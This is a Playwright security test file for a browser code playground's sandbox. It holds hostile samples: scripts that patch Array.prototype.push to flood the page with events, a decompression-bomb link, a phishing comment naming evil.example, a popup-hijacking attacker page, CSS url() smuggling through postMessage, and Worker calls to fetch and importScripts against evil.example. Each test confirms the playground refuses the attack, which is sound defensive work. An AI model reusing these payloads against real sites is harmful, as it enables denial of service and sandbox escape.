import { expect, test } from '@playwright/test';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { ANSWER_WITHIN_MS, keepsAnswering, longestTask, recordLongTasks, runUsable } from './answering';
import { decompressionBomb } from './fixtures/decompressionBomb';
import { openView, playgroundLink, region, run, runButton, setCode, withoutMonaco } from './support';

// Share links and embeds carry code a stranger wrote. None of these attacks may freeze the tab
// (the page answers every sample within a second while each one runs), lose the next Run, or erase
// what the learner saved. The budgets that hold them: src/runtime/sandbox/validateMessage.ts and
// detachedCopy.ts, src/ui/persistence/snippets.ts, src/ui/playground/codeHash.ts,
// src/ui/editor/highlight.ts.

// Timed samples on a 2-core machine shared with other builds: one may miss by a little.
test.describe.configure({ retries: 2 });

/** A page on another site (localhost, where the tour under test is 127.0.0.1). */
async function startOtherSite(html: string): Promise<{ url: string; close(): Promise<void> }> {
  const server = createServer((_request, response) =>
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(html),
  );
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://localhost:${port}/`,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

test.beforeEach(async ({ page }) => {
  // Monaco's own start can hold the main thread on a busy machine; these tests are about the attacks.
  await withoutMonaco(page);
});

test('a program that patches Array.prototype.push cannot slip a shared tree into the page’s messages', async ({
  page,
}) => {
  // One tree of 17 nested arrays reached 2^17 ways, referenced by 4,990 events per message: a few kB
  // to send, and once 250 million steps for the page to check per message.
  const attack = `const push = Array.prototype.push;
let tree: unknown = 0;
for (let level = 0; level < 17; level++) tree = [tree, tree];
let seq = 1_000_000;
Array.prototype.push = function (this: unknown[], ...items: any[]) {
  const event = items[0];
  if (event && typeof event === 'object' && event.kind === 'console' && typeof event.seq === 'number') {
    for (let i = 0; i < 4990; i++)
      Reflect.apply(push, this, [{ kind: 'tool-handler', layer: 'server', phase: 'start', tool: 't', arguments: tree, seq: seq++, t: 1 }]);
  }
  return Reflect.apply(push, this, items);
};
for (let i = 0; i < 6; i++) {
  console.log('message', i);
  await new Promise((resolve) => setTimeout(resolve, 100));
}
Array.prototype.push = push;
console.log('attack over');
`;
  await page.goto(playgroundLink(attack));
  await expect(runButton(page)).toBeEnabled();
  await runButton(page).click();
  await keepsAnswering(
    page,
    async () =>
      (await runButton(page).isEnabled()) &&
      (await region(page, 'Console').textContent())?.includes('attack over') === true,
    { what: 'the page during the run' },
  );
  await setCode(page, "console.log('the next run');\n");
  await run(page);
  await expect(region(page, 'Console')).toContainText('the next run');
});

test('another site that opens nine links in a row in our tab leaves the learner’s eight snippets in the list', async ({
  page,
  context,
}) => {
  const own = Array.from({ length: 8 }, (_, i) => ({
    id: `own${i}`,
    code: `// My snippet ${i + 1}\nconsole.log(${i + 1});\n`,
    updatedAt: Date.now() - (8 - i) * 60_000,
  }));
  await page.goto('/playground/');
  await page.evaluate((list) => localStorage.setItem('mcp-tour:v1:playground-snippets', JSON.stringify(list)), own);
  const links = Array.from({ length: 9 }, (_, i) =>
    new URL(
      playgroundLink(`// ⚠ Your saved snippets expired. Recover them at evil.example (${i})\nconsole.log(${i});\n`),
      page.url(),
    ).toString(),
  );
  // The other site: its page opens the playground in a popup, then sets the popup's address, link after link.
  const attacker = await startOtherSite(
    `<button id="open">Open</button><script>
      const links = ${JSON.stringify(links)};
      let popup;
      document.getElementById('open').onclick = () => { popup = window.open(links[0]); };
      window.sendTheRest = async () => {
        for (const link of links.slice(1)) {
          popup.location = link;
          await new Promise((resolve) => setTimeout(resolve, 200));
        }
      };
    </script>`,
  );
  try {
    const other = await context.newPage();
    await other.goto(attacker.url);
    const [popup] = await Promise.all([
      context.waitForEvent('page'),
      other.getByRole('button', { name: 'Open' }).click(),
    ]);
    await expect(runButton(popup)).toBeEnabled();
    await other.evaluate(() => (window as unknown as { sendTheRest(): Promise<void> }).sendTheRest());
    await expect(region(popup, 'Editor')).toContainText('evil.example (8)');
  } finally {
    await attacker.close();
  }
  await page.goto('/playground/');
  const options = page.getByRole('combobox', { name: 'Recent snippets' }).locator('option');
  // The learner's eight and the two latest links (the list is this browser's: drawn once the page is live).
  await expect(options).toHaveCount(10);
  const titles = await options.allTextContents();
  for (let i = 1; i <= 8; i++) expect(titles.some((title) => title.startsWith(`My snippet ${i} ·`))).toBe(true);
  expect(titles.filter((title) => title.includes('opened from a link'))).toHaveLength(2);
});

test('a 60,000-character link that would expand to hundreds of millions of characters opens at once, refused', async ({
  page,
}) => {
  await recordLongTasks(page);
  await page.goto(`/playground/#code/${decompressionBomb(59_993)}`);
  await runUsable(page);
  expect(await longestTask(page)).toBeLessThanOrEqual(ANSWER_WITHIN_MS);
  await expect(page.getByText(/This link.s code could not be read/)).toBeVisible();
  await setCode(page, "console.log('the next run');\n");
  await run(page);
  await expect(region(page, 'Console')).toContainText('the next run');
});

for (const [where, embed] of [
  ['playground', false],
  ['embed playground', true],
] as const) {
  test(`a short ${where} link of 199,000 line separators opens without freezing the tab, and runs`, async ({
    page,
  }) => {
    // highlight.js's cost grows with the square of such a run: this 933-character link once held the page 40 s.
    await recordLongTasks(page);
    await page.goto(playgroundLink(`${'\u2028'.repeat(199_000)}console.log('still runs');\n`, { embed }));
    await runUsable(page);
    expect(await longestTask(page)).toBeLessThanOrEqual(ANSWER_WITHIN_MS);
    await run(page);
    await expect(region(page, 'Console')).toContainText('still runs');
  });
}

test('leak events with thousands of forged spellings cannot freeze or break the LLM context view', async ({ page }) => {
  // Slipped into the runtime's outgoing batch through a patched Array.prototype.push: 3,000 leak
  // events of 20 spellings each, 8,000 HTTP requests to mask against them, and spellings that are not text.
  const attack = `const push = Array.prototype.push;
let seq = 1_000_000;
const forged: object[] = [];
for (let i = 0; i < 8000; i++)
  forged.push({ kind: 'http', layer: 'transport', link: 'l', exchange: 'e' + i, direction: 'request', method: 'GET', url: 'http://x/mcp?q=' + 'y'.repeat(200) + i, headers: {}, seq: 0, t: 1 });
for (let i = 0; i < 3000; i++)
  forged.push({ kind: 'secret-leak', layer: 'transport', label: 's' + i, where: 'url', inEvent: 1, appearedAs: Array.from({ length: 20 }, (_, j) => 'y'.repeat(j + 1) + i), seq: 0, t: 1 });
forged.push({ kind: 'secret-leak', layer: 'transport', label: 'odd', where: 'url', inEvent: 1, appearedAs: [5, { a: 1 }], seq: 0, t: 1 });
Array.prototype.push = function (this: unknown[], ...items: any[]) {
  const event = items[0];
  if (event && typeof event === 'object' && event.kind === 'console' && typeof event.seq === 'number' && forged.length) {
    for (const item of forged.splice(0, 4000)) Reflect.apply(push, this, [{ ...item, seq: seq++ }]);
  }
  return Reflect.apply(push, this, items);
};
for (let i = 0; i < 4; i++) {
  console.log('message', i);
  await new Promise((resolve) => setTimeout(resolve, 100));
}
Array.prototype.push = push;
console.log('attack over');
`;
  await page.goto(playgroundLink(attack));
  await expect(runButton(page)).toBeEnabled();
  await runButton(page).click();
  const done = async () =>
    (await runButton(page).isEnabled()) &&
    (await region(page, 'Console').textContent())?.includes('attack over') === true;
  await keepsAnswering(page, done, { what: 'the page during the run' });
  await page.getByRole('tab', { name: /^LLM context\b/ }).click();
  await keepsAnswering(page, async () => region(page, 'LLM context').isVisible(), { what: 'the LLM context view' });
  await expect(page.getByText(/could not draw/)).toHaveCount(0);
  await openView(page, 'Wire');
  await expect(page.getByText(/could not draw/)).toHaveCount(0);
  await setCode(page, "console.log('the next run');\n");
  await run(page);
  await expect(region(page, 'Console')).toContainText('the next run');
});

test('a framing page cannot place url() in the embed’s look through var()', async ({ page, baseURL }) => {
  const embed = new URL('/embed/playground/', baseURL).toString();
  const other = await startOtherSite(`<iframe src="${embed}" style="width:800px;height:600px"></iframe>`);
  try {
    await page.goto(other.url);
    const frame = page.frameLocator('iframe');
    await expect(frame.getByRole('button', { name: 'Run', exact: true })).toBeEnabled();
    const accent = () =>
      frame.locator('html').evaluate((html) => (html as HTMLElement).style.getPropertyValue('--accent'));
    const send = (value: string) =>
      page.evaluate(
        (value) =>
          document
            .querySelector('iframe')
            ?.contentWindow?.postMessage({ type: 'mcp-tour:look', vars: { accent: value } }, '*'),
        value,
      );
    // A harmless accent is taken, so the channel works…
    await send('rgb(1, 2, 3)');
    await expect.poll(accent).toBe('rgb(1, 2, 3)');
    // …and one that smuggles a url() through var() is refused (the token goes back to the embed's own).
    await send(`var(--x,) url(${other.url}x.png)`);
    await expect.poll(accent).toBe('');
  } finally {
    await other.close();
  }
});

test('the real fetch, importScripts, caches and indexedDB on the Worker’s prototypes are closed too', async ({
  page,
}) => {
  const attack = `const proto = (WorkerGlobalScope as any).prototype;
const tries: [string, () => unknown][] = [
  ['fetch', () => proto.fetch.call(self, 'http://evil.example/')],
  ['importScripts', () => proto.importScripts.call(self, 'http://evil.example/x.js')],
  ['caches', () => Object.getOwnPropertyDescriptor(proto, 'caches')!.get!.call(self)],
  ['indexedDB', () => Object.getOwnPropertyDescriptor(proto, 'indexedDB')!.get!.call(self)],
];
for (const [name, attempt] of tries) {
  try {
    await attempt();
    console.log(name, 'reached');
  } catch (error) {
    console.log(name, 'refused:', (error as Error).message.slice(0, 40));
  }
}
`;
  await page.goto(playgroundLink(attack));
  await run(page);
  const console = region(page, 'Console');
  for (const name of ['fetch', 'importScripts', 'caches', 'indexedDB'])
    await expect(console).toContainText(`${name} refused: MCP Tour runs code offline`);
  await expect(console).not.toContainText('reached');
});
